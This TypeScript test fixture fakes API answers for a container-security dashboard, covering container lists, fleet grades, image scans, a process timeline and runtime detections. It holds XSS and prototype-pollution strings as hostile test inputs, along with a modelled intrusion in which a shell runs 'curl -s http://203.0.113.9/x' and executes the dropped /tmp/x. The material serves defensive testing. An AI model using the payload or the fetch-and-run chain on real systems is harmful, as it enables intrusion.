// Made-up answers of /api/v1 for tests of the dashboard: the usual harbour, a huge one, and one whose
// names mean harm. Times count back from the moment that is given.
import type { DetectionFacts } from '../../src/model/timeline.ts';
import type { ContainerView, ProcessView, TimelineView } from '../../src/model/timeline-view.ts';
import { idOf, imageIdOf } from '../sample-record.ts';
import { sampleReport } from '../sample-report.ts';

export const harm = '<img src=x onerror="document.title=\'harmed\'">\u202e';
const second = 1000;
export const minute = 60 * second;
export const hour = 60 * minute;

export interface Made {
  readonly name: string;
  readonly image?: string;
  readonly team?: string | null;
  readonly application?: string | null;
  readonly environment?: string | null;
  /** Before now. */
  readonly agoMs: number;
  /** Null: it runs. */
  readonly lifeMs?: number | null;
  readonly grade?: string | null;
  readonly exitCode?: number;
}

export function ago(now: Date, ms: number): string {
  return new Date(now.getTime() - ms).toISOString();
}

export function containerOf(now: Date, made: Made): ContainerView {
  const { name, image = 'shop/api:1.4', agoMs, lifeMs = null } = made;
  const startedAt = ago(now, agoMs);
  const endedAt = lifeMs === null ? null : ago(now, agoMs - lifeMs);
  return {
    id: idOf(name),
    name,
    image: { reference: image, id: imageIdOf(image), digest: `sha256:${idOf(`digest ${image}`)}` },
    node: 'node-1',
    workload: {
      user: null,
      team: made.team === undefined ? 'checkout' : made.team,
      application: made.application === undefined ? 'shop' : made.application,
      environment: made.environment === undefined ? 'production' : made.environment,
    },
    createdAt: startedAt,
    startedAt,
    endedAt,
    exitCode: endedAt === null ? null : (made.exitCode ?? 0),
    namedBeforeStart: true,
    grade: made.grade === undefined ? 'B' : made.grade,
    running: endedAt === null,
    firstSeen: startedAt,
    lastSeen: endedAt ?? now.toISOString(),
  };
}

const search = { team: 'search', application: 'index', image: 'search/index:7' };
const nightly = { team: 'search', application: 'nightly', image: 'tools/report:2', grade: 'A' };

/** Two teams, long and short lives, one that failed, one without a team. */
export function usualContainers(now: Date): readonly ContainerView[] {
  const jobs = Array.from({ length: 14 }, (_, index): Made => {
    return {
      ...nightly,
      name: `report-${index}`,
      agoMs: (index + 0.4) * 80 * minute,
      lifeMs: 1300,
    };
  });
  const made: readonly Made[] = [
    { name: 'shop-api-1', agoMs: 20 * hour, grade: 'D' },
    { name: 'shop-api-2', agoMs: 6 * hour, grade: 'D' },
    { name: 'shop-db', image: 'postgres:17', agoMs: 22 * hour, grade: 'A' },
    { name: 'shop-web-1', image: 'shop/web:2.1', agoMs: 9 * hour, lifeMs: 5 * hour, exitCode: 137 },
    { name: 'shop-web-2', image: 'shop/web:2.2', agoMs: 4 * hour },
    { name: 'shop-api-t', agoMs: 3 * hour, lifeMs: hour, environment: 'test', grade: 'C' },
    { ...search, name: 'index-1', agoMs: 15 * hour, grade: 'C', environment: 'production' },
    { ...search, name: 'index-2', agoMs: 2 * hour, grade: 'F', environment: 'production' },
    ...jobs,
    {
      name: 'toolbox',
      agoMs: 40 * minute,
      team: null,
      application: null,
      environment: null,
      grade: null,
    },
  ];
  return made
    .map((one) => containerOf(now, one))
    .sort((a, b) => (a.firstSeen > b.firstSeen ? -1 : 1));
}

export function manyContainers(now: Date, count: number): readonly ContainerView[] {
  return Array.from({ length: count }, (_, index) =>
    containerOf(now, {
      name: `run-${index}`,
      team: `team-${index % 12}`,
      application: `application-${index % 60}`,
      agoMs: index * 8 * second + second,
      lifeMs: index % 40 === 0 ? null : (index % 17) * second + 90,
      grade: 'ABCDEF'[index % 6] ?? null,
    }),
  );
}

export function hostileContainers(now: Date): readonly ContainerView[] {
  const made = { image: `${harm}:1`, team: harm, application: harm, environment: '__proto__' };
  return [
    containerOf(now, { ...made, name: harm, agoMs: hour, grade: harm }),
    containerOf(now, { ...made, name: 'x'.repeat(5000), agoMs: hour, lifeMs: -5 }),
    containerOf(now, { name: 'javascript:alert(1)', agoMs: -hour, team: 'constructor' }),
  ];
}

export function harbourOf(now: Date, containers: readonly ContainerView[]): object {
  const alive = containers.filter(({ running }) => running).length;
  const day = (back: number): string => ago(now, back * 24 * hour).slice(0, 10);
  return {
    answer: 'Your containers are not all seaworthy: 2 of 9 run code that is being exploited',
    grade: { letter: 'D', score: 48 },
    trend: Array.from({ length: 30 }, (_, index) => ({
      day: day(29 - index),
      score: Math.round(62 + 8 * Math.sin(index / 4) - index / 2),
    })),
    actions: [
      {
        action: 'rebuild shop/api on debian:12 of today',
        removes: 31,
        exploited: 2,
        where: 'layers 1-2',
        image: 'shop/api:1.4',
      },
      {
        action: 'npm: lodash 4.17.4 -> 4.17.21',
        removes: 6,
        exploited: 0,
        where: 'app/package-lock.json',
        image: 'shop/api:1.4',
      },
      {
        action: 'rotate the AWS key in app/.env',
        removes: 1,
        exploited: 0,
        where: 'layer 4, deleted in layer 5, still readable',
        image: 'search/index:7',
      },
    ],
    counts: {
      containersAlive: alive,
      containersDead: containers.length - alive,
      images: 5,
      detections24h: 3,
      unknowns: 2,
    },
    coverage: [
      { what: 'sensor', state: 'on', why: null, howToSwitchOn: null },
      { what: 'engine docker', state: 'on', why: null, howToSwitchOn: null },
      {
        what: 'gate',
        state: 'off',
        why: 'No gate decides here.',
        howToSwitchOn: 'Run `seaworthy gate docker`.',
      },
    ],
    generatedAt: now.toISOString(),
  };
}

export function imagesOf(now: Date, text: (word: string) => string): readonly object[] {
  const { summary } = sampleReport();
  const row = (reference: string, letter: string | null, state = 'scanned'): object => ({
    reference: text(reference),
    id: imageIdOf(reference),
    digest: `sha256:${idOf(`digest ${reference}`)}`,
    os: text('Debian GNU/Linux 12 (bookworm)'),
    packages: 312,
    layers: 5,
    size: 184_000_000,
    grade: letter === null ? null : { letter, score: 48 },
    summary: state === 'scanned' ? summary : null,
    runs: 4,
    alive: 2,
    scannedAt: state === 'scanned' ? ago(now, hour) : null,
    state,
    why: state === 'failed' ? text('the engine no longer holds its layers') : null,
  });
  return [
    row('shop/api:1.4', 'D'),
    row('shop/web:2.2', 'B'),
    row('search/index:7', 'F'),
    row('tools/report:2', null, 'scanning'),
    row('postgres:17', null, 'failed'),
  ];
}

function processOf(
  now: Date,
  at: { pid: number; agoMs: number; words: string[]; children?: ProcessView[]; own?: boolean },
): ProcessView {
  return {
    pid: at.pid,
    parentPid: null,
    user: { id: 0, name: 'root' },
    startedAt: ago(now, at.agoMs),
    endedAt: at.pid === 1 ? null : ago(now, at.agoMs - 30 * minute),
    exitCode: at.pid === 1 ? null : 0,
    signal: null,
    programs: [
      {
        at: ago(now, at.agoMs),
        path: at.words[0] ?? null,
        arguments: at.words,
        fromOwnLayer: at.own === true,
        fromMemory: false,
      },
    ],
    children: at.children ?? [],
  };
}

export function timelineOf(
  now: Date,
  container: ContainerView,
  text: (word: string) => string,
): TimelineView {
  const curl = processOf(now, {
    pid: 42,
    agoMs: 5 * hour,
    words: ['/tmp/x', text('http://203.0.113.9/x')],
    own: true,
  });
  const shell = processOf(now, {
    pid: 41,
    agoMs: 5.2 * hour,
    words: ['/bin/sh', '-c', text('curl -s http://203.0.113.9/x')],
    children: [curl],
  });
  return {
    container,
    startedBy: { user: 'ann', command: text('docker run -d shop/api:1.4'), pid: 900 },
    rawOn: null,
    command: ['node', text('server.js')],
    ports: ['8080/tcp'],
    processes: [
      processOf(now, {
        pid: 1,
        agoMs: 6 * hour,
        words: ['/usr/bin/node', 'server.js'],
        children: [shell],
      }),
    ],
    files: [
      {
        path: text('/tmp/x'),
        action: 'written',
        to: null,
        count: 3,
        firstAt: ago(now, 5.1 * hour),
        lastAt: ago(now, 5 * hour),
        pid: 41,
      },
    ],
    flows: [
      {
        direction: 'out',
        protocol: 'tcp',
        port: 80,
        remote: '203.0.113.9',
        name: text('files.example'),
        flows: 2,
        bytesSent: 1200,
        bytesReceived: 34_000,
        firstAt: ago(now, 5.1 * hour),
        lastAt: ago(now, 5 * hour),
      },
    ],
    detections: [{ ...detectionFacts(now, text), count: 3, lastAt: ago(now, 5 * hour) }],
    responses: [
      {
        at: ago(now, 5 * hour),
        id: '0123456789ab',
        action: 'pause',
        state: 'done',
        result: text('paused by its engine'),
        because: text('Program that is not of the image started'),
        undo: 'seaworthy respond undo 0123456789ab',
        count: 1,
      },
    ],
    losses: [
      {
        what: 'openat',
        count: 12,
        from: ago(now, 3 * hour),
        to: ago(now, 2.9 * hour),
        why: 'the buffer was full',
        ownOnly: false,
      },
    ],
    packages: [
      { purl: 'pkg:npm/lodash@4.17.4', files: [text('/app/node_modules/lodash/lodash.js')] },
    ],
    events: 812,
    truncated: false,
    namesakes: 0,
  };
}

function detectionFacts(now: Date, text: (word: string) => string): DetectionFacts {
  return {
    hostname: 'node-1',
    output: text('A program that is not from the image was run (file=/tmp/x parent=sh)'),
    priority: 'Critical',
    rule: text('Drop and execute new binary in container'),
    source: 'syscall',
    tags: ['T1059', 'container'],
    time: ago(now, 5 * hour),
    output_fields: { 'proc.name': text('x'), 'proc.pname': 'sh', 'user.name': 'root' },
  };
}

export function detectionsOf(
  now: Date,
  container: ContainerView,
  text: (word: string) => string,
): readonly object[] {
  const latest = detectionFacts(now, text);
  const group = {
    rule: latest.rule,
    priority: 'Critical',
    count: 3,
    firstAt: ago(now, 5.1 * hour),
    lastAt: latest.time,
    container: { id: container.id, name: container.name, image: container.image.reference },
    chain: ['containerd-shim', 'node server.js', 'sh', text('/tmp/x')],
    exception: text('- rule: Drop and execute new binary in container\n  exceptions: []\n'),
    attack: [{ id: 'T1059', name: 'Command and Scripting Interpreter' }],
    lesson: 'drift',
  };
  const other = {
    ...group,
    rule: text('Terminal shell in container'),
    priority: 'Warning',
    count: 1,
  };
  return [
    { id: 'd1', group, latest },
    {
      id: 'd2',
      group: { ...other, exception: null, chain: [] },
      latest: { ...latest, rule: other.rule },
    },
  ];
}
